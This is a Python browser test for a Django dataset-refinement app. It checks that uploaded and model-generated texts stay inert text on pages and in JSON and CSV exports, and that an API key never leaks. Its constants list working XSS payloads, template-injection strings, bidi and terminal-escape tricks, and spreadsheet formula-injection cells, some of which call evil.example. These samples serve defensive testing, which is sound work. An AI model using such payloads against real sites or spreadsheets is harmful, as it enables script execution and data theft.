"""Texts that want to be more than text, all the way: upload, teacher, review, export.

And a key that must stay where it is: it is looked for in the database, in every page, log and file.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import TYPE_CHECKING, Any

import pytest
from django.apps import apps
from django.db import connection

from refinement.formats.writing.containers import plain_cell
from refinement.method.specs import PolicySpec
from refinement.models import Dataset, Endpoint, Project, Run, Student, User
from refinement.services.projects import create_project
from refinement.services.starting import start_run
from tests import fake_teacher
from tests.fake_teacher import FakeTeacher, Settings
from tests.pipeline.tiny_student import save_tiny_student
from tests.whole.product import KEY, KEY_VARIABLE

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Page

    from tests.browser.visitor import Visitor
    from tests.whole.product import Product

pytestmark = [pytest.mark.browser, pytest.mark.processes, pytest.mark.timeout(600)]

PATIENCE_MS = 90_000
PASSWORD = "chalk and slate and ink"
HURT = "window.hurt=1"
MARKUP = (
    f"<script data-hurt>{HURT}</script>",
    f'<img data-hurt src="https://evil.example/x" onerror="{HURT}">',
    f'<svg data-hurt onload="{HURT}"><script>{HURT}</script></svg>',
    f'<a data-hurt href="javascript:{HURT}">click</a>',
    f'<iframe data-hurt srcdoc="<script>parent.{HURT}</script>"></iframe>',
    f'"><style data-hurt>body{{display:none}}</style><body data-hurt onload={HURT}>',
    "</textarea></title></template><script data-hurt>" + HURT + "</script>",
    '<form data-hurt action="https://evil.example"><input name=csrfmiddlewaretoken autofocus>',
    f"<div data-hurt hx-get=/account hx-trigger=load hx-on::load={HURT}>",
    "{{ settings.SECRET_KEY }}{% load static %}{% include 'base.html' %}",
)
UNSEEN = (
    "safe\u202egpj.exe\u202c and \u2066isolated\u2069",
    "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "\u200bzero\ufeffwidth",
)
FORMULAS = ('=HYPERLINK("https://evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2")
PAYLOADS = (*MARKUP, *UNSEEN, *FORMULAS)
PAIRS = len(PAYLOADS) // 2  # each holds two
# Whole texts that a spreadsheet would run or fetch for, by each way to begin one.
CELLS = (
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
    'a","=1+1',
)
RUNS = "=+-@\t\r\n＝＋－＠"
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def teacher(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeTeacher]:
    """Its replies are as hostile as the data: each ends with one of the payloads."""
    ordinary = fake_teacher.reply_text

    def hostile(messages: list[dict[str, Any]], part: str = "") -> str:
        text = ordinary(messages, part)
        return f"{text} {PAYLOADS[sum(text.encode()) % len(PAYLOADS)]}"

    monkeypatch.setattr(fake_teacher, "reply_text", hostile)
    with FakeTeacher(Settings(key=KEY)) as server:
        yield server


def write_data(folder: Path) -> Path:
    """A pair for every two payloads, one that makes the teacher repeat the key, refused ones."""
    lines = [
        json.dumps(
            {
                "instruction": f"Say what this is, number {number}: {one}",
                "input": one if number % 2 else "",
                "output": f"It is a text, and no more than that: {other}",
                one: "a hostile field",
            }
        )
        for number, (one, other) in enumerate(zip(PAYLOADS[::2], PAYLOADS[1::2], strict=True))
    ]
    lines.append(json.dumps({"instruction": "Repeat it. [[403]]", "output": "No."}))
    lines += [json.dumps({"instruction": cell, "output": f"{cell} {cell}"}) for cell in CELLS]
    lines += [json.dumps({"instruction": payload, "output": 42}) for payload in PAYLOADS]
    path = folder / f"{MARKUP[0].replace('/', ' ')}.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_hostile_texts_are_text_and_the_key_stays_secret(
    product: Product, teacher: FakeTeacher, visit: Callable[..., Visitor], tmp_path: Path
) -> None:
    me = visit(product.url, accept_downloads=True)
    me.page.context.set_default_timeout(PATIENCE_MS)
    watch(me)
    maria = User.objects.create_superuser("maria", password=PASSWORD)
    project = create_project(name=f"Bees {MARKUP[0]}", owner=maria)
    me.sign_in("maria", PASSWORD)
    dataset = upload(me.page, project, write_data(tmp_path), product)
    run = refine(product, project, dataset, teacher, save_tiny_student(tmp_path / "student"), maria)
    seen = read_everything(me, project, dataset, run)
    for payload in MARKUP:
        assert payload in seen, payload
    assert "safe⟦RLO⟧gpj.exe" in seen
    assert "␛[31mred" in seen
    exported = export(me.page, run, product)
    keep_formulas(me, run)
    assert cells_of(export_csv(me.page, run, product)) >= {*CELLS, *(f"{c} {c}" for c in CELLS)}
    me.page.goto(f"/projects/{project.pk}/audit")
    untouched(me)
    look_for_the_key(product, seen, exported)


def watch(me: Visitor) -> None:
    """A dialog, or a request to anywhere else, is trouble."""

    def on_dialog(dialog: Any) -> None:
        me.troubles.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def on_request(request: Any) -> None:
        if "evil.example" in request.url:
            me.troubles.append(f"asked for {request.url}")

    me.page.on("dialog", on_dialog)
    me.page.on("request", on_request)


def untouched(me: Visitor) -> str:
    """Nothing of the payloads has become part of the page. Returns the page's text."""
    found = me.page.evaluate(
        "[window.hurt === undefined, document.querySelectorAll('[data-hurt]').length]"
    )
    assert found == [True, 0], me.page.url
    text = str(me.page.evaluate("document.body.textContent"))
    assert RAW.findall(text) == [], me.page.url
    return text + str(me.page.title())


def upload(page: Page, project: Project, path: Path, product: Product) -> Dataset:
    page.goto(f"/projects/{project.pk}/datasets/new")
    page.locator("input[type=file]").set_input_files(path)
    page.get_by_role("button", name="Upload", exact=True).click()
    page.wait_for_url(re.compile(r"/datasets/\d+"))
    page.get_by_role("button", name="Import", exact=True).click()
    dataset = Dataset.objects.get()
    product.wait_for("the import", lambda: reload(dataset).status == Dataset.Status.READY)
    assert reload(dataset).rejected_count == len(PAYLOADS)
    return dataset


def reload(record: Any) -> Any:
    return type(record).objects.get(pk=record.pk)


def refine(
    product: Product,
    project: Project,
    dataset: Dataset,
    teacher: FakeTeacher,
    student: Path,
    user: User,
) -> Run:
    endpoint = Endpoint.objects.create(
        name=f"Teacher {MARKUP[1]}"[:120],
        base_url=teacher.base_url,
        model="fake-teacher",
        protocol="staged",
        api_key_variable=KEY_VARIABLE,
    )
    run = start_run(
        project=project,
        dataset=reload(dataset),
        teacher=endpoint,
        student=Student.objects.create(name="Tiny", path=str(student), dtype="float32"),
        policy=PolicySpec(require_response_accepted=False, max_ifd=None, max_r_ifd=None),
        user=user,
        name=f"Run {MARKUP[2]}"[:200],
    )
    product.wait_for("the run", lambda: reload(run).status == Run.Status.COMPLETE, 400)
    failed = run.run_samples.filter(state="failed")
    assert "asked to answer 403 to Bearer •••" in failed.get(position=PAIRS).error
    return run


def read_everything(me: Visitor, project: Project, dataset: Dataset, run: Run) -> str:
    """The texts of all pages that show something of the data or of what was made from it."""
    pages = [
        "/",
        f"/projects/{project.pk}",
        f"/projects/{project.pk}/members",
        f"/datasets/{dataset.pk}",
        f"/datasets/{dataset.pk}?rejected=1",
        f"/runs/{run.pk}",
        f"/runs/{run.pk}/failures",
        f"/runs/{run.pk}/exports",
        "/teachers",
        "/students",
        "/audit",
    ]
    pairs = run.run_samples.order_by("position").values_list("pk", flat=True)
    pages += [f"/runs/{run.pk}/review/{pk}" for pk in pairs]
    pages += [f"/runs/{run.pk}/review/{pk}?view=sides" for pk in pairs[:3]]
    seen = []
    for page in pages:
        me.page.goto(page)
        seen.append(untouched(me))
    me.expected_statuses.add(422)
    return "\n".join(seen)


def export(page: Page, run: Run, product: Product) -> bytes:
    """The file holds the very texts: nothing was escaped on its way."""
    page.goto(f"/runs/{run.pk}/exports")
    page.locator("form[action$='/exports/new'] button").last.click()
    product.wait_for("the export", lambda: run.exports.filter(status="ready").exists())
    exported = run.exports.get()
    data = page.context.request.get(f"/exports/{exported.pk}/file").body()
    rows = [json.loads(line) for line in data.splitlines()]
    texts = "\n".join(f"{row['instruction']}\n{row['output']}" for row in rows)
    assert len(rows) == run.run_samples.filter(state="done").count() > PAIRS // 2
    assert sum(payload in texts for payload in PAYLOADS) > len(PAYLOADS) // 2
    fields = {name for row in rows for name in row}
    assert set(MARKUP) & fields
    return data + json.dumps(exported.manifest).encode()


def keep_formulas(me: Visitor, run: Run) -> None:
    """In the review room: each is read as it is, and its original kept."""
    for row in run.run_samples.filter(position__gt=PAIRS).order_by("position"):
        me.page.goto(f"/runs/{run.pk}/review/{row.pk}")
        assert " ".join(row.sample.instruction.split()) in " ".join(untouched(me).split())
        me.press("o")
        me.page.wait_for_url(lambda url, pk=row.pk: not url.endswith(f"/review/{pk}"))
    kept = run.run_samples.filter(position__gt=PAIRS, decisions__action="original")
    assert kept.count() == len(CELLS)


def export_csv(page: Page, run: Run, product: Product) -> str:
    """The file for spreadsheets, as a browser saves it."""
    page.goto(f"/runs/{run.pk}/exports")
    page.locator("select[name=container]").select_option("csv")
    page.locator("form[action$='/exports/new'] button").last.click()
    ready = run.exports.filter(status="ready", options__container="csv")
    product.wait_for("the export for spreadsheets", ready.exists)
    page.goto(f"/runs/{run.pk}/exports")
    with page.expect_download() as saving:
        page.locator(f"#download-{ready.get().pk}").click()
    return saving.value.path().read_bytes().decode("utf-8-sig")


def cells_of(text: str) -> set[str]:
    """What was in the cells of the file before it was made safe, each of which is."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(tuple(RUNS))] == []
    return {plain_cell(cell) for cell in cells}


def look_for_the_key(product: Product, seen: str, exported: bytes) -> None:
    """It was sent to the teacher, and is nowhere else."""
    assert KEY not in seen
    assert KEY.encode() not in exported
    logs = list(product.folder.rglob("*.log"))
    assert len(logs) >= 4
    for path in logs:
        assert KEY.encode() not in path.read_bytes(), path
    for model in apps.get_models():
        table = connection.ops.quote_name(model._meta.db_table)
        with connection.cursor() as cursor:
            cursor.execute(f"SELECT * FROM {table}")  # noqa: S608
            assert not any(KEY in str(row) for row in cursor.fetchall()), table
